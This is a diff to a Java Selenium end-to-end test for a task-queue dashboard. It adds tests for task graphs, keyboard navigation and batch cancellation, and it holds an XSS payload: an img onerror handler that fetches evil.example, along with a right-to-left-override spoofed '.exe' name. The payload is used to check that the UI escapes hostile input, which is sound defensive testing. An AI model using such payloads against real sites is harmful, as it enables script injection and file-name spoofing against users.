@@ -6,10 +6,12 @@ import static io.kairos.server.wiring.DashboardNode.WIDE;
 import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.kairos.client.Graph;
 import io.kairos.client.HandlerChange;
 import io.kairos.client.TaskRequest;
 import io.kairos.client.queue.HandlerPause;
 import io.kairos.client.queue.QueueLimit;
+import io.kairos.client.task.OnFailure;
 import io.kairos.client.task.RetryPolicy;
 import io.kairos.client.task.TaskId;
 import io.kairos.client.task.TaskState;
@@ -28,6 +30,7 @@ import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.openqa.selenium.By;
+import org.openqa.selenium.Keys;
 
 /**
  * The dashboard in two browsers, as people use it for tasks and queues: one of an operator, one of
@@ -46,6 +49,9 @@ class BrowserEndToEndTest {
 
   private static final String SHOWN =
       "<img src=x onerror=\"document.title='owned';fetch('https://evil.example/')\">‹U+202E›gnp.exe";
+
+  /** The same for a script. */
+  private static final String QUOTED = "'" + HOSTILE.replace("'", "\\'") + "'";
 
   private static final String LENGTH_OF_PAYLOAD =
       "return [...document.querySelectorAll('main pre k-text bdi')].at(-1).textContent.length";
@@ -317,6 +323,141 @@ class BrowserEndToEndTest {
     assertThat(node.client().get(heads.getFirst()).state()).isEqualTo(TaskState.DEAD);
     operator.gone(By.xpath("//h2[normalize-space()='Stuck ordering keys']"));
     assertThat(operator.barriers()).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(ints = {WIDE, NARROW})
+  void the_graph_of_a_task_is_drawn_walked_by_keys_and_cancelled_from_a_task_on(int width) {
+    String handler = "graph-" + width;
+    Graph graph = new Graph();
+    Graph.Step load = graph.add(TaskRequest.to(handler).delay(Duration.ofDays(1)).build());
+    Graph.Step check = graph.add(TaskRequest.to(handler).build()).after(load);
+    Graph.Step publish = graph.add(TaskRequest.to(handler + "/publish").build());
+    publish.after(load, OnFailure.BLOCK).after(check, OnFailure.CONTINUE);
+    graph.add(TaskRequest.to(handler).build()).after(publish);
+    List<TaskId> ids = node.client().schedule(graph.tasks());
+    operator.resize(width);
+    operator.show("/ui/tasks/" + ids.get(1));
+    operator.read("main .life", "Waits for its predecessors");
+    operator.read("main", "Graph", "4 tasks that wait for each other");
+    operator.see(
+        inGraph(ids.getFirst(), "[starts-with(@aria-label, '%s, new,')]".formatted(handler)));
+    operator.see(inGraph(ids.get(1), "[@aria-current='page'][contains(@aria-label, 'awaiting')]"));
+    assertThat(operator.script("return document.querySelectorAll('.graph .open').length"))
+        .isEqualTo(4L);
+    assertThat(operator.barriers()).isEmpty();
+
+    operator.click(By.xpath("//k-graph//summary"));
+    operator.read("k-graph table", "graph", "awaiting", "goes on waiting when it fails");
+    operator.read("k-graph table", "waits for any end of it");
+    assertThat(operator.barriers()).isEmpty();
+    operator.see(inGraph(ids.get(2), ""));
+    operator.script(
+        "document.querySelector(\".graph a[href$='%s']\").focus(); return true"
+            .formatted(ids.get(2)));
+    operator.type(Keys.ENTER);
+    operator.read("main h1", handler + "/publish");
+    assertThat(operator.place()).isEqualTo("/ui/tasks/" + ids.get(2));
+
+    guest.resize(width);
+    guest.show("/ui/tasks/" + ids.get(2));
+    guest.see(inGraph(ids.getFirst(), ""));
+    assertThat(guest.sees(button("Cancel this and what waits for it"))).isFalse();
+    operator.press("Cancel this and what waits for it");
+    operator.read("dialog[open]", "2 tasks", "have not ended");
+    assertThat(operator.barriers()).isEmpty();
+    operator.confirm("Cancel 2 tasks");
+    operator.read(".said", "2 tasks cancelled");
+    operator.see(inGraph(ids.getLast(), "[contains(@aria-label, 'cancelled')]"));
+    operator.gone(button("Cancel this and what waits for it"));
+    assertThat(node.client().get(ids.get(1)).state()).isEqualTo(TaskState.AWAITING);
+
+    operator.script(
+        """
+        const graph = document.querySelector('k-graph');
+        graph.graph = { tasks: [{ id: graph.task, handler: %s, state: '%s' }, { id: 'b', handler: 'b' }],
+          edges: [{ predecessor: graph.task, successor: 'b', onFailure: '%s' }] };
+        return true;
+        """
+            .formatted(QUOTED, "<b>state</b>", "<b>failure</b>"));
+    operator.see(By.xpath("//*[@class='graph']//*[contains(@aria-label, '‹U+202E›gnp.exe')]"));
+    assertHarmless();
+    assertThat(operator.script("return document.querySelectorAll('.graph b').length"))
+        .isEqualTo(0L);
+  }
+
+  /** A box of the drawing. */
+  private static By inGraph(TaskId id, String what) {
+    return By.xpath("//*[@class='graph']//*[@href='/ui/tasks/%s']%s".formatted(id, what));
+  }
+
+  @ParameterizedTest
+  @ValueSource(ints = {WIDE, NARROW})
+  void of_a_large_graph_the_nearest_tasks_are_drawn_and_all_are_listed(int width) {
+    Graph graph = new Graph();
+    Graph.Step first = graph.add(TaskRequest.to("W".repeat(128)).delay(Duration.ofDays(1)).build());
+    for (int i = 0; i < 80; i++) {
+      graph.add(TaskRequest.to("fan-" + width).build()).after(first);
+    }
+    List<TaskId> ids = node.client().schedule(graph.tasks());
+    operator.resize(width);
+
+    operator.show("/ui/tasks/" + ids.getLast());
+
+    operator.read("k-graph", "The 60 nearest tasks are drawn; 21 more are in the list");
+    operator.see(inGraph(ids.getFirst(), ""));
+    operator.see(inGraph(ids.getLast(), "[@aria-current]"));
+    assertThat(operator.script("return document.querySelectorAll('.graph a').length"))
+        .isEqualTo(60L);
+    operator.click(By.xpath("//k-graph//summary"));
+    operator.see(By.cssSelector("k-graph tbody tr:nth-child(81)"));
+    assertThat(operator.barriers()).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(ints = {WIDE, NARROW})
+  void a_batch_is_followed_and_what_is_left_of_it_cancelled(int width) throws Exception {
+    String handler = "import-" + width;
+    String batch =
+        node.post(
+                "/v1/batches",
+                "{\"handler\": \"%s\", \"name\": \"rows-%s\"}".formatted(handler, width))
+            .at("/batch/id")
+            .asText();
+    String task = "{\"handler\": \"%s\", \"batch\": \"%s\"".formatted(handler, batch);
+    String first = node.post("/v1/tasks", task + "}").path("id").asText();
+    for (int i = 0; i < 3; i++) {
+      var _ = node.post("/v1/tasks", task + ", \"delay\": \"86400s\"}");
+    }
+    try (Worker _ = node.worker(handler, (_, _) -> {})) {
+      node.await(TaskId.of(first), TaskState.SUCCEEDED);
+    }
+    operator.resize(width);
+    operator.show("/ui/batches");
+    operator.fill("handler", handler);
+    operator.press("Search");
+    operator.read("main table", "rows-" + width, handler, "open", "25 %, 1 of 4 ended");
+    assertThat(operator.barriers()).isEmpty();
+
+    operator.click(By.linkText("rows-" + width));
+    operator.read("main .tiles", "Tasks", "4", "Unfinished", "3", "Succeeded", "1");
+    guest.resize(width);
+    guest.show("/ui/batches/" + batch);
+    guest.read("main .tiles", "Unfinished", "3");
+    assertThat(guest.sees(button("Cancel…"))).isFalse();
+    operator.press("Cancel…");
+    operator.read("dialog[open]", "3 tasks", "have not ended");
+    operator.confirm("Cancel 3 tasks");
+
+    operator.read(".said", "3 tasks cancelled");
+    operator.read("main .facts", "cancelled", "100 %, 4 of 4 ended", "Closed", "Ended");
+    assertThat(operator.barriers()).isEmpty();
+    operator.click(By.xpath("//a[contains(@class, 'tile')][span='Cancelled']"));
+    operator.read("main h2", "3 newest that match");
+    assertThat(operator.barriers()).isEmpty();
+    operator.show("/ui/tasks/" + first);
+    operator.click(By.linkText(batch));
+    operator.read("main h1", "rows-" + width);
   }
 
   private static By inStuckKey(String key, String what) {
